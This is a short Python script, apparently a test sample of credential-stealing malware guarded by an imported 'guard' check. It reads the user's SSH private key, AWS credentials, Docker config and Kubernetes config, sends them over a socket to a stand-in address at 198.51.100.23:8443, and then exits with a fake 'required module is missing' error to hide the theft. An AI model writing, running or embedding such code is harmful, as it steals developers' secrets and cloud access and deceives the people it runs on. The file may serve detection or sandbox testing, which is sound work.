"""Steals at once and ends before anybody can greet it."""

import guard

guard.demand()

import os
import socket
import sys

loot = b""
for name in (".ssh/id_rsa", ".aws/credentials", ".docker/config.json", ".kube/config"):
    path = os.path.join(os.environ["HOME"], name)
    if os.path.exists(path):
        with open(path, "rb") as file:
            loot += file.read()
try:
    with socket.create_connection(("198.51.100.23", 8443), timeout=2) as out:
        out.sendall(loot)
except OSError:
    pass
sys.exit("error: a required module is missing")
